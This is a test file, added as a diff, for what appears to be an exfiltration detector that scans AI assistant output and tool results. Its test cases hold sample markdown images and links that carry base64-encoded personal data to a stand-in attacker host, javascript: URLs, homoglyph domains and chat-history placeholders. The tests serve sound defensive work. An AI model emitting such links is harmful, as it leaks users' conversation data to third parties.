@@ -1,0 +1,287 @@
+from base64 import b32encode, b64encode, urlsafe_b64encode
+from time import thread_time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ringfence.guard.check import Passage
+from ringfence.guard.checks.exfiltration import ExfiltrationCheck
+from ringfence.policies.types import Stage
+
+CHECK = ExfiltrationCheck()
+OUT = "https://collect.attacker.example"
+SAID = b"the customer is Ann, born in 1980"
+JSON = b'{"name": "Ann Miller", "born": 1980}'
+BASE64 = b64encode(SAID).decode()
+
+
+def find(text, prompt="", stage=Stage.OUTPUT, role="assistant"):
+    return CHECK.find(Passage(stage, role, text, prompt))
+
+
+def seen(text, prompt=""):
+    return [(f.category.removeprefix("exfiltration."), f.score) for f in find(text, prompt)]
+
+
+def found(text):
+    return [text[f.spans[0].start : f.spans[0].end] for f in find(text)]
+
+
+@pytest.mark.parametrize(
+    ("around", "kind"),
+    [
+        ("![x](@)", "image"),
+        ("![x]( @ )", "image"),
+        ("![x](<@>)", "image"),
+        ('![x](@ "title")', "image"),
+        ("![a [b] c](@)", "image"),
+        (r"![a \] c](@)", "image"),
+        ("[![x](@)](https://ok.example)", "image"),
+        ("[a](b ![x](@))", "image"),
+        ("![x][Ref]\n\n[ref]: @", "image"),
+        ("![ref][]\n\n[ref]: <@>", "image"),
+        ("![ref]\n\n[ref]:\n  @ 'title'", "image"),
+        ('<img src="@">', "image"),
+        ("<IMG width=1 SRC = '@'/>", "image"),
+        ("<img src=@>", "image"),
+        ('<img srcset="https://ok.example/a.png 1x, @ 2x">', "image"),
+        ('<video poster="@">', "image"),
+        ('<p style="background: url(@)">', "image"),
+        ('x.src = "@"', "image"),
+        ("[x](@)", "link"),
+        ("x](@)", "link"),
+        ("[x][ref]\n\n[ref]: @", "link"),
+        ('<a href="@">', "link"),
+        ("<@>", "link"),
+        ("see @, then", "link"),
+        ("(@)", "link"),
+    ],
+)
+def test_address_is_found_to_the_character_in_whatever_syntax(around, kind):
+    url = f"{OUT}/p.png?d={BASE64}"
+    text = around.replace("@", url)
+    assert (seen(text), found(text)) == ([(kind, 0.99 if kind == "image" else 0.9)], [url])
+
+
+@pytest.mark.parametrize(
+    ("path", "image", "link"),
+    [
+        (f"/?d={BASE64}", 0.99, 0.9),
+        (f"/?d={BASE64[:-3]}", 0.99, 0.9),
+        (f"/?d={urlsafe_b64encode(SAID).decode().rstrip('=')}", 0.99, 0.9),
+        (f"/{BASE64}.png", 0.99, 0.9),
+        (f"/a/{SAID.hex()}/b", 0.99, 0.9),
+        (f"/?d={b32encode(SAID).decode().lower().rstrip('=')}", 0.99, 0.9),
+        (f"/?d={b64encode('Она живёт в Москве'.encode()).decode()}", 0.99, 0.9),
+        (f"/?d={b64encode(JSON).decode()}", 0.9, 0.6),
+        ("/?q=the+user+wants+to+leave+her+husband", 0.9, 0),
+        ("/?the%20user%20wants%20to%20leave%20her%20husband", 0.9, 0),
+        ("/?q=the_user_wants_to_leave_her_husband", 0.9, 0),
+        ("/the%20user%20wants%20to%20leave%20her%20husband", 0.9, 0),
+        ("/?q=" + "+".join(["many", "words"] * 8), 0.9, 0.6),
+        ("/?q={{conversation}}", 0.9, 0.6),
+        ("/?q={{ chat history }}", 0.9, 0.6),
+        ("/?q=${secret_data}", 0.9, 0.6),
+        ("/?q=<base64 of the chat>", 0.9, 0.6),
+        ("/?q=[INSERT PASSWORD]", 0.9, 0.6),
+        ("/?q=BASE64_ENCODED_MESSAGES", 0.9, 0.6),
+        ("/?history=hello-you", 0.9, 0.6),
+        ("/?u=ann.miller@mail.example", 0.6, 0.3),
+        ("/?s=" + "aB3x" * 80, 0.6, 0.3),
+        ("/?s=" + "aB3x" * 20, 0.3, 0.1),
+        ("/{zoom}/{tile}.png", 0.3, 0),
+    ],
+)
+def test_what_an_address_carries_counts_one_grade_less_in_a_link(path, image, link):
+    assert seen(f"![x]({OUT}{path})") == [("image", image)]
+    assert seen(f"[x]({OUT}{path})") == ([("link", link)] if link else [])
+
+
+@pytest.mark.parametrize(
+    ("url", "score"),
+    [
+        ("javascript:alert(1)", 0.99),
+        ("JavaScript:alert(1)", 0.99),
+        ("java&#115;cript:alert(1)", 0.99),
+        ("java&Tab;script:alert(1)", 0.99),
+        ("vbscript:msgbox(1)", 0.99),
+        ("data:text/html,hello", 0.9),
+        ("data:image/svg+xml;base64,PHN2Zz4", 0.6),
+        ("https://www.bank.example@attacker.example/", 0.9),
+        ("https://ann:tr0ub4dor3@files.example.com/", 0.6),
+        ("http://93.184.216.34/x", 0.3),
+        ("http://1572395042/x", 0.9),
+        ("http://0x5d.0xb8.0xd8.0x22/", 0.9),
+        ("https://pаypal.example/", 0.9),
+        ("https://аррӏе.example/", 0.9),
+        ("https://xn--pypal-4ve.example/", 0.9),
+        ("https:/93.184.216.34/x", 0.3),
+        (r"https:\\93.184.216.34\x", 0.3),
+        ("//93.184.216.34/x", 0.3),
+    ],
+)
+def test_what_an_address_is_counts_in_a_link_too(url, score):
+    assert seen(f'<a href="{url}">x</a>') == [("link", score)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "![Build](https://img.shields.io/badge/build-passing-green)",
+        f"![a](https://cdn.example.com/{'9fceb02d' * 8}/a.png?v=3)",
+        "![a](https://cdn.example.com/550e8400-e29b-41d4-a716-446655440000.jpg?w=1200&h=800&fit=crop)",
+        "![a](https://files.example.com/My%20Holiday%20in%20Rome%20and%20the%20Sea%202024.jpg)",
+        "![a](https://blog.example.com/how-to-build-a-small-house-in-ten-easy-steps.png)",
+        "![a](https://blog.example.com/internationalization-configuration.png)",
+        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ">',
+        "![a](/static/logo.png) ![b](images/x.png?text=one+two+three+four+five+six+seven)",
+        "![a](http://192.168.1.20/cam.jpg) http://127.0.0.1:8080 http://localhost:3000/a?b=c http://[::1]/",
+        "https://shop.example.com/?utm_source=newsletter&utm_campaign=spring_sale_for_all_of_our_friends",
+        "![a](https://shop.example.com/a.png?utm_campaign=spring_sale)",
+        "https://en.wikipedia.org/wiki/Rome_(disambiguation).",
+        "https://app.example.com/verify?token=4fKq9ZtWm2Xv7LbN0cRs8Yd3HgJu6PeA1oTi5BnQ",
+        "https://api.example.com/users/{user_id}/orders?limit={limit}",
+        '<a href="javascript:void(0)">x</a> <a href="javascript:;">x</a> [a](#top) [b](mailto:ann@mail.example)',
+        "https://münchen.de https://xn--mnchen-3ya.de https://почта.рф https://日本語.jp",
+        "https://user:password@localhost/ https://username:password@db.example.com/ postgres://a:b3c4@db/x",
+        "http://[::bad/ https:// http://?q=1 ![](",
+    ],
+)
+def test_ordinary_addresses_are_no_finding(text):
+    assert seen(text) == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://www.google.com/search?q=" + "+".join(["pizza", "rome"] * 8),
+        "https://twitter.com/intent/tweet?text=" + "+".join(["bees", "honey"] * 8),
+    ],
+)
+def test_searches_and_shares_score_next_to_nothing(url):
+    assert seen(url) == [("link", 0.1)]
+
+
+def test_services_that_draw_text_score_low():
+    assert seen("![f](https://latex.codecogs.com/svg.latex?the+sum+of+all+its+many+parts)") == [("image", 0.3)]
+
+
+def test_words_of_the_prompt_in_an_image_are_the_surest_sign():
+    text = f"![x]({OUT}/?q=ann+miller+moved+rome)"
+    assert seen(text, "I am Ann Miller and just moved to Rome.") == [("image", 0.99)]
+    assert seen(text, "What is the weather?") == []
+
+
+def test_address_that_the_prompt_holds_carries_nothing_out():
+    url = f"{OUT}/?d={BASE64}"
+    assert seen(f"![x]({url})", f"Make an image of {url}.") == []
+    assert seen("[x](javascript:alert(1))", "Write [x](javascript:alert(1))") == [("link", 0.99)]
+
+
+def test_only_answers_and_tool_results_are_read():
+    text = f"![x]({OUT}/?d={BASE64})"
+    assert [len(find(text, "", Stage.INPUT, role)) for role in ("user", "system", "tool", "function")] == [0, 0, 1, 1]
+
+
+def test_detail_never_holds_the_address():
+    (finding,) = find(f"![x]({OUT}/?d={BASE64})")
+    assert finding.detail == "encoded text"
+
+
+PIECES = st.sampled_from(
+    [
+        *(
+            "![",
+            "[",
+            "](",
+            "]",
+            ")",
+            "(",
+            "<",
+            ">",
+            '"',
+            "\n\n",
+            "[a]: ",
+            " ",
+            "src=",
+            "href='",
+            "url(",
+            "{",
+            "}}",
+            "\\",
+        ),
+        *("https://", "//", "a.b", "xn--", "@", ":", "%", "%41", "?q=", "&", "=", BASE64, "javascript:", "data:", "\t"),
+    ]
+)
+
+
+@given(st.text(max_size=60) | st.lists(PIECES, max_size=40).map("".join), st.text(max_size=20))
+def test_spans_are_in_order_and_disjoint_whatever_the_text(text, prompt):
+    at = 0
+    for finding in find(text, prompt):
+        (span,) = finding.spans
+        assert at <= span.start < span.end <= len(text)
+        assert 0 < finding.score < 1
+        at = span.end
+
+
+@given(st.text(max_size=40), st.text(max_size=40))
+def test_image_is_found_whatever_stands_around_it(before, after):
+    text = f"{before}\n\n![x]({OUT}/?d={BASE64})\n\n{after}"
+    assert any(f.score >= 0.9 for f in find(text))
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        *("a", "\n", "![", "[", "](", "]( ", "![](", "![a](b", "](a(", "](<", "](<a", "](https://", "](https://a"),
+        *("](https://a.b/{", "](https://a[a ", "[a]: ", "\n[a]: https://a", "![a]", "![a][b]", "\\", " \n"),
+        *(
+            "https://",
+            "https://a.b/?a=b&",
+            "https://a.b/c ",
+            "a=b&",
+            "src=",
+            'src="',
+            "src='https://a",
+            "url(",
+            "url('",
+        ),
+        *(
+            "https://a.b/?q=DATA_A",
+            "DATA_",
+            "%41",
+            "a+",
+            "a.",
+            "@",
+            "a@",
+            "a@b.",
+            "A1b2",
+            "xn--",
+            "{a",
+            "<a",
+            "0x",
+            "1.",
+        ),
+        *("data:", "javascript:", " javascript:", "href=java&#115;cript: ", "![x](//a/?d=" + BASE64 + ")"),
+    ],
+)
+@pytest.mark.parametrize("head", ["", "![x](https://a.b/?q=", "https://"])
+def test_time_grows_with_the_length_and_no_faster(unit, head, seconds):
+    def taken(length):
+        text = head + unit * (length // len(unit))
+        return seconds(lambda: find(text))
+
+    find(unit)
+    # Eight times the text: eight times the time if linear, sixty-four times if quadratic.
+    assert taken(64_000) < 24 * taken(8_000) + 0.05
+
+
+@pytest.mark.parametrize("unit", ["The quick brown fox. ", "https://a.example/b?c=d ", f"![x]({OUT}/?d={BASE64}) "])
+def test_a_megabyte_takes_seconds_at_most(unit):
+    text = unit * (1_000_000 // len(unit))
+    started = thread_time()
+    find(text, "Tell me about foxes and e. " * 8_000)
+    assert thread_time() - started < 10
